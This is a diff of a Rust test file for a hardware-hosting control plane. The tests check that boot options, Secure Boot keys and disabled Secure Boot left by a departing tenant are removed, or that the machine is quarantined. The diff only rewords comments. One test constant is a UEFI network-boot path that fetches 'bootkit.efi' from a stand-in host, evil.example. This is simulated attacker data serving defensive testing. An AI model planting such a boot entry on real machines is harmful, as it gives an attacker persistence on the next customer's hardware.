@@ -1,5 +1,5 @@
-//! What a customer's system leaves in the firmware of its machine. The attacker has root on a handed-over machine, gives it back, and
-//! wants a program of its own to start on it when the next customer has it.
+//! Changes that a customer's system leaves in the firmware of its machine. The attacker has root on a handed-over machine,
+//! returns it, and tries to start its own program on it when the next customer has it.
 
 use std::net::SocketAddrV4;
 use std::path::Path;
@@ -15,7 +15,7 @@ const DEVICE: &str =
     "PciRoot(0x0)/Pci(0x2,0x0)/MAC(525400000000,0x1)/IPv4(0.0.0.0)/Uri(http://evil.example/bootkit.efi)";
 const ORDER: [&str; 2] = ["UEFI PXE IPv4", "UEFI Disk"];
 
-/// A control plane and machines, all handed over to customers. `prepare` sees each machine before it is enrolled.
+/// A control plane and machines, all handed over to customers. `prepare` sees each machine before its enrolment.
 struct Hall {
     plane: Plane,
     fleet: Fleet,
@@ -61,7 +61,7 @@ impl Hall {
         &self.plane.site
     }
 
-    /// Takes a machine back, or back in, and answers the state in which that ends.
+    /// Releases or readmits a machine and returns its final state.
     fn taken_back(&self, verb: &str, node: &SimNode) -> String {
         let output = self.site().try_cli(["node", verb, "--yes", "--wait", &node.name()]);
         let ended = output.status.code().is_some_and(|code| matches!(code, 0 | 7));
@@ -105,7 +105,7 @@ async fn a_boot_option_and_a_key_of_a_customer_are_gone_before_the_next_one_gets
     }
     robbed.leave_key_in_db(&own_key());
     robbed.switch_secure_boot(false);
-    // This one removes no boot option, and its new boot order counts from the next start.
+    // This BMC does not remove boot options, and applies a new boot order from the next start.
     slow.set_uefi_fault(UefiFault::KeepsOptions);
 
     assert_eq!(
@@ -116,7 +116,7 @@ async fn a_boot_option_and_a_key_of_a_customer_are_gone_before_the_next_one_gets
     );
     assert!(as_before(&robbed), "{:?}", robbed.uefi());
     let (events, explained) = hall.told(&robbed);
-    // The option, the order that it led, the key, and Secure Boot.
+    // The option, the order that began with it, the key, and Secure Boot.
     assert_eq!(events.matches("security.bmc-foreign-removed").count(), 4, "{events}");
     for word in [BOOTKIT, "Secure Boot key", "Secure Boot \\\"off\\\" (wished: on)"] {
         assert!(events.contains(word), "{word}: {events}");
@@ -134,7 +134,7 @@ async fn a_boot_option_and_a_key_of_a_customer_are_gone_before_the_next_one_gets
     let order = slow.uefi().0;
     assert_eq!(order, [ORDER[0], ORDER[1], BOOTKIT], "it stands behind ours");
     let (events, explained) = hall.told(&slow);
-    // The order alone was put right, by the start of the machine.
+    // Only the order was corrected, by the start of the machine.
     assert_eq!(events.matches("security.bmc-foreign-removed").count(), 1, "{events}");
     assert!(
         explained.contains("not ours and still there: boot option \"Evil Boot Manager\""),
@@ -199,7 +199,7 @@ async fn a_machine_whose_boot_order_or_keys_cannot_be_put_right_goes_to_quaranti
         }
         assert_eq!(node.view().boots, boots, "{fault:?}: it is not booted before");
     }
-    // BMCs that do as they are told again are put right when the node is readmitted.
+    // BMCs that work again are corrected when the node is readmitted.
     for index in 0..3 {
         let node = hall.fleet.node(index);
         node.set_uefi_fault(UefiFault::None);
